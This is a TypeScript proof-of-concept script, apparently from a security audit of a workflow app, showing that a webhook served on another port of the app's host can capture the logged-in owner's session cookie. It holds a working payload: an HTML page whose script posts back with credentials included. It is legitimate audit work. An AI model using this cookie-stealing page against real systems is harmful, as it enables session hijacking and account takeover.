/** Finding 7: with hooks on another port of the app's host, a link to an answer takes the owner's session. Needs Chromium. */

import { connect, createServer } from 'node:net'
import { join } from 'node:path'
import type { Program } from './program.ts'

/** Answers a page whose script posts to the hook; what is posted to it is kept. */
const PAGE = `
def workflow(_request, settings):
    if 'back' in _request:
        settings['seen'] = _request.headers.get('cookie', 'no cookie')
        return {'status_code': 200, 'headers': {'Set-Cookie': 'planted=1; Path=/'}, 'body': 'thanks'}
    page = '<title>offer</title><script>fetch(%r, {method: "POST", credentials: "include", body: new URLSearchParams("back=1")}).then(() => { document.title = "sent" })</script>' % _request['url']
    return {'status_code': 200, 'headers': {'Content-Type': 'text/html'}, 'body': page}
`

export async function prove({ root, start, workflows, say }: Program): Promise<void> {
  const [port, other] = [await freePort(), await freePort()]
  const [app, hooks] = [`http://127.0.0.1:${port}`, `http://127.0.0.1:${other}`]
  const forward = createServer((socket) => {
    const inner = connect(port, '127.0.0.1')
    socket.pipe(inner).pipe(socket)
    for (const one of [socket, inner]) one.on('error', () => socket.destroy())
  }).listen(other, '127.0.0.1')
  const server = await start({
    env: { WORKFLOWS_PORT: String(port), WORKFLOWS_PUBLIC_URL: app, WORKFLOWS_HOOKS_URL: hooks },
  })
  const { openBrowser, openTab, createOwner } = await import(join(root, 'test/helpers/browser.ts'))
  const browser = await openBrowser()
  try {
    const { body } = await server.api<{ hooks_own_origin: boolean }>('GET', '/api/system')
    say(`hooks count as an origin of their own: ${body.hooks_own_origin}`)
    const tab = await openTab(browser)
    await createOwner(tab, server.output())
    const hook = await workflows.createCatch(server, { source: PAGE })
    const answer = await workflows.callHook(hook, { url: hook.hook_url }, { headers: { prefer: 'respond-async' } })
    const link = answer.headers.get('location') ?? ''
    await workflows.until(async () => ((await fetch(link)).status === 200 ? true : null))
    await tab.page.goto(link)
    await new Promise((done) => setTimeout(done, 5000))
    const settings = await server.api<{ data: { key: string; value: unknown }[] }>(
      'GET',
      `/api/workflows/${hook.id}/settings`,
    )
    const seen = settings.body.data.find(({ key }) => key === 'seen')?.value
    say(
      `the owner opened the answer; its script ran: ${(await tab.page.title()) === 'sent' || seen !== undefined}; the function got: ${String(seen ?? 'nothing').replace(/=[^;]{20,}/g, '=(a session)')}`,
    )
  } finally {
    await browser.close()
    forward.close()
    await server.close()
  }
}

function freePort(): Promise<number> {
  return new Promise((done) => {
    const probe = createServer().listen(0, '127.0.0.1', () => {
      const address = probe.address()
      probe.close(() => done(typeof address === 'object' && address !== null ? address.port : 0))
    })
  })
}
